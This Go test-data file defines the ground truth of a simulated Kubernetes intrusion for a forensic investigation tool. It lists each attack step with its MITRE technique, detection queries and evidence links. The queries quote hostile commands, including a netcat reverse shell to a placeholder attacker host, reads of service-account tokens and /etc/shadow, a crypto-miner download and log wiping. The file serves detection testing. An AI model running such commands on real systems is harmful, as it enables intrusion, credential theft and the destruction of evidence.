//go:build incident

package record

import "amber/testdata/incidents/truth"

// seen is how a source shows a step: at least so many rows.
func seen(dataset, query string, rows int) truth.Trace {
	return truth.Trace{Dataset: dataset, Query: query, Rows: rows}
}

const (
	kube   = "kubernetes.audit_logs"
	calls  = "auditd.log"
	cloudT = "aws.cloudtrail"
	podLog = "amber.log"
	bundle = "amber.process"
)

// plan is the truth but for times, names and addresses.
var plan = truth.Truth{
	Title:     "A web pod is broken into by a request, and the node, the cluster and the cloud account after it",
	Synthetic: []string{cloudT},
	Steps: []truth.Step{
		{ID: "everyday", Did: "customers use the shop", Actor: "{customer}", Target: "pod/shop/{web_pod}", Seen: []truth.Trace{
			seen(podLog, `"{customer}" AND "cgi-bin/status"`, 4), seen(calls, `process.name:wget AND process.command_line:*localhost* AND user.id:101`, 4),
		}},
		{ID: "recon", Did: "looks for what the web server answers", Tactic: "reconnaissance", Technique: "T1595", Actor: "{intruder}", Target: "pod/shop/{web_pod}", Seen: []truth.Trace{
			seen(podLog, `"{intruder}" AND ".git"`, 1),
		}},
		{ID: "exploit", Did: "has the status script run a command by a request's parameter", Tactic: "initial-access", Technique: "T1190", Actor: "{intruder}", Target: "pod/shop/{web_pod}", Seen: []truth.Trace{
			seen(podLog, `"{intruder}" AND "%3Bid"`, 1), seen(calls, `process.name:id AND user.id:101`, 1),
		}},
		{ID: "shell", Did: "has it open a shell to his own host", Tactic: "execution", Technique: "T1059.004", Actor: "{intruder}", Target: "pod/shop/{web_pod}", Seen: []truth.Trace{
			seen(podLog, `"4444" AND "{intruder}"`, 1), seen(calls, `process.command_line:"nc {intruder} 4444 -e /bin/sh" AND event.action:executed`, 1),
			seen(calls, `event.action:"connected-to" AND destination.ip:{intruder} AND destination.port:4444`, 1), seen(calls, `process.name:whoami`, 1),
		}},
		{ID: "discovery", Did: "looks round in the pod", Tactic: "discovery", Technique: "T1082", Actor: "{intruder}", Target: "pod/shop/{web_pod}", Seen: []truth.Trace{
			seen(calls, `event.action:executed AND user.id:101 AND process.name:(uname OR hostname OR env OR mount)`, 4),
			seen(calls, `process.command_line:"ls -la /var/run/secrets"`, 1),
		}},
		{ID: "token", Did: "reads the token of the pod's service account", Tactic: "credential-access", Technique: "T1528", Actor: "{intruder}", Target: "system:serviceaccount:shop:web", Seen: []truth.Trace{
			seen(calls, `event.action:"opened-file" AND file.path:"/var/run/secrets/kubernetes.io/serviceaccount/token" AND process.name:cat`, 1),
			seen(calls, `event.action:executed AND process.command_line:"cat /var/run/secrets/kubernetes.io/serviceaccount/token"`, 1),
		}},
		{ID: "tool", Did: "downloads a client of the API server", Tactic: "command-and-control", Technique: "T1105", Actor: "{intruder}", Target: "pod/shop/{web_pod}", Seen: []truth.Trace{
			seen(calls, `process.name:wget AND destination.ip:{intruder} AND destination.port:8000`, 1), seen(calls, `process.name:wget AND file.path:"/tmp/.kc"`, 1),
			seen(calls, `event.action:executed AND process.name:wget`, 1),
		}},
		{ID: "api-inside", Did: "lists namespaces and reads secrets from inside, with that token", Tactic: "credential-access", Technique: "T1552.007", Actor: "system:serviceaccount:shop:web", Target: "secrets", Seen: []truth.Trace{
			seen(kube, `user.name:"system:serviceaccount:shop:web" AND source.ip:{web_address} AND orchestrator.resource.type:secrets`, 3),
			seen(kube, `user.name:"system:serviceaccount:shop:web" AND event.outcome:failure`, 2),
			seen(calls, `process.executable:"/tmp/.kc" AND event.action:executed`, 7),
		}},
		{ID: "exfiltration", Did: "sends both tokens of the pod to his own host", Tactic: "exfiltration", Technique: "T1041", Actor: "{intruder}", Target: "system:serviceaccount:shop:web", Seen: []truth.Trace{
			seen(calls, `destination.ip:{intruder} AND destination.port:9001`, 1), seen(calls, `file.path:"/var/run/secrets/eks.amazonaws.com/serviceaccount/token"`, 1),
			seen(calls, `event.action:executed AND process.name:(nc OR cat)`, 2),
		}},
		{ID: "privileged-pod", Did: "makes a privileged pod that mounts the node's root", Tactic: "execution", Technique: "T1610", Actor: "system:serviceaccount:shop:web", Target: "pod/kube-system/node-tuner", Seen: []truth.Trace{
			seen(kube, `user.name:"system:serviceaccount:shop:web" AND event.action:create AND orchestrator.resource.name:node-tuner AND source.ip:{web_address}`, 1),
			seen(calls, `process.executable:"/tmp/.kc" AND process.command_line:*POST*`, 1), seen(calls, `process.command_line:"sleep 3600"`, 1),
		}},
		{ID: "exec", Did: "enters it from outside, with the stolen token", Tactic: "execution", Technique: "T1609", Actor: "system:serviceaccount:shop:web", Target: "pod/kube-system/node-tuner", Seen: []truth.Trace{
			seen(kube, `event.action:exec AND source.ip:{intruder} AND orchestrator.resource.name:node-tuner`, 1), seen(calls, `process.command_line:"id; ls /host"`, 1),
		}},
		{ID: "escape", Did: "goes over to the node's own root", Tactic: "privilege-escalation", Technique: "T1611", Actor: "system:serviceaccount:shop:web", Target: "{node}", Seen: []truth.Trace{
			seen(kube, `event.action:exec AND source.ip:{intruder}`, 1), seen(calls, `process.name:chroot AND event.action:executed`, 1),
		}},
		{ID: "credentials", Did: "reads the node's password file", Tactic: "credential-access", Technique: "T1003.008", Actor: "system:serviceaccount:shop:web", Target: "{node}", Seen: []truth.Trace{
			seen(kube, `event.action:exec AND source.ip:{intruder}`, 1), seen(calls, `file.path:"/etc/shadow"`, 1),
			seen(calls, `event.action:executed AND process.name:chroot`, 1),
		}},
		{ID: "miner", Did: "downloads a miner on the node and starts it", Tactic: "impact", Technique: "T1496", Actor: "system:serviceaccount:shop:web", Target: "{node}", Seen: []truth.Trace{
			seen(kube, `event.action:exec AND source.ip:{intruder}`, 2), seen(calls, `file.path:"/host/var/tmp/.sys/xmrig"`, 1),
			seen(calls, `process.executable:"/var/tmp/.sys/xmrig" AND event.action:executed`, 1), seen(bundle, `process.name:xmrig`, 1),
			seen(calls, `event.action:executed AND process.name:(wget OR chmod OR nohup OR nice)`, 4),
		}},
		{ID: "host-cron", Did: "has the node's cron start it again", Tactic: "persistence", Technique: "T1053.003", Actor: "system:serviceaccount:shop:web", Target: "{node}", Seen: []truth.Trace{
			seen(kube, `event.action:exec AND source.ip:{intruder}`, 1), seen(calls, `file.path:"/host/etc/cron.d/node-tuner"`, 1),
			seen(calls, `event.action:executed AND process.command_line:*cron.d*`, 1),
		}},
		{ID: "cronjob", Did: "makes a CronJob that asks his host what to do", Tactic: "persistence", Technique: "T1053.007", Actor: "system:serviceaccount:shop:web", Target: "cronjob/kube-system/node-tuner-sync", Seen: []truth.Trace{
			seen(kube, `event.action:create AND source.ip:{intruder} AND orchestrator.resource.type:cronjobs`, 1), seen(calls, `process.name:wget AND destination.ip:{intruder}`, 1),
		}},
		{ID: "wipe-host", Did: "empties the node's logs", Tactic: "defense-evasion", Technique: "T1070.002", Actor: "system:serviceaccount:shop:web", Target: "{node}", Seen: []truth.Trace{
			seen(kube, `event.action:exec AND source.ip:{intruder}`, 1), seen(calls, `file.path:"/host/var/log/auth.log"`, 1), seen(calls, `file.path:"/host/var/log/wtmp" AND event.action:deleted`, 1),
			seen(calls, `event.action:executed AND process.command_line:*wtmp*`, 2),
		}},
		{ID: "wipe-pod", Did: "empties the web server's log, and removes what he brought", Tactic: "defense-evasion", Technique: "T1070.004", Actor: "{intruder}", Target: "pod/shop/{web_pod}", Seen: []truth.Trace{
			seen(calls, `file.path:"/var/log/web/status.log" AND process.name:sh`, 1), seen(calls, `process.command_line:"rm -f /tmp/.p /tmp/.kc"`, 1),
		}},
		{ID: "wipe-events", Did: "deletes the events of two namespaces", Tactic: "defense-evasion", Technique: "T1070", Actor: "system:serviceaccount:shop:web", Target: "events", Seen: []truth.Trace{
			seen(kube, `event.action:(delete OR deletecollection) AND orchestrator.resource.type:events AND source.ip:{intruder}`, 2),
		}},
		{ID: "cloud-session", Did: "turns the web identity token into a session of the shop's role", Tactic: "lateral-movement", Technique: "T1550.001", Actor: "{intruder}", Target: "assumed-role/shop-web", Seen: []truth.Trace{
			seen(cloudT, `event.action:AssumeRoleWithWebIdentity AND source.ip:{intruder}`, 1),
		}},
		{ID: "cloud-data", Did: "copies the customers' data", Tactic: "collection", Technique: "T1530", Actor: "{intruder}", Target: "shop-customers-example", Seen: []truth.Trace{
			seen(cloudT, `event.action:GetObject AND source.ip:{intruder}`, 12),
		}},
		{ID: "response", Did: "both pods are frozen, cut off and collected", Actor: "responder", Target: "pod/shop/{web_pod}", Seen: []truth.Trace{
			seen("amber.custody", `event.action:(isolate OR freeze OR collect OR seal OR acquire)`, 2), seen("amber.acquisition", `event.action:"froze-container"`, 2),
		}},
	},
	Links: []truth.Link{
		{ID: "request-shell", Kind: "request → process", From: `event.dataset:amber.log AND "4444" AND "{intruder}"`, To: `event.dataset:auditd.log AND process.command_line:"nc {intruder} 4444 -e /bin/sh"`, Why: "the container, the second, and the command in the request", Through: "runs in"},
		{ID: "token-requests", Kind: "token → requests", From: `event.dataset:kubernetes.audit_logs AND user.name:"system:serviceaccount:shop:web" AND source.ip:{web_address}`, To: `event.dataset:kubernetes.audit_logs AND user.name:"system:serviceaccount:shop:web" AND source.ip:{intruder}`, Why: "the same bound token (its id, the pod's name and uid), from inside and from outside", Shared: "token"},
		{ID: "exec-processes", Kind: "exec → process tree", From: `event.dataset:kubernetes.audit_logs AND event.action:exec AND orchestrator.resource.name:node-tuner`, To: `event.dataset:auditd.log AND process.name:chroot AND event.action:executed`, Why: "the container, the second, and the command", Through: "started"},
		{ID: "account-session", Kind: "service account → role session", From: `event.dataset:kubernetes.audit_logs AND user.name:"system:serviceaccount:shop:web"`, To: `event.dataset:aws.cloudtrail AND event.action:AssumeRoleWithWebIdentity AND source.ip:{intruder}`, Why: "the web identity's subject is the service account", Through: "opened"},
		{ID: "session-calls", Kind: "role session → API calls", From: `event.dataset:aws.cloudtrail AND event.action:AssumeRoleWithWebIdentity AND source.ip:{intruder}`, To: `event.dataset:aws.cloudtrail AND event.action:GetObject AND source.ip:{intruder}`, Why: "the access key; and the address is not the pod's or the node's", Shared: "cloud-session"},
		{ID: "file-execution", Kind: "file → execution", From: `event.dataset:auditd.log AND process.name:wget AND file.path:"/tmp/.kc"`, To: `event.dataset:auditd.log AND process.executable:"/tmp/.kc" AND event.action:executed`, Why: "the file that one process wrote another runs", Through: "was run as"},
		{ID: "miner-process", Kind: "process → container", From: `event.dataset:auditd.log AND process.executable:"/var/tmp/.sys/xmrig"`, To: `event.dataset:amber.process AND process.name:xmrig`, Why: "the pid on the node, and when it started", Shared: "process"},
		{ID: "pod-maker", Kind: "pod → who made it", From: `event.dataset:kubernetes.audit_logs AND event.action:create AND orchestrator.resource.name:node-tuner`, To: `event.dataset:amber.container AND orchestrator.resource.name:node-tuner`, Why: "the pod's name and uid", Shared: "pod"},
	},
}
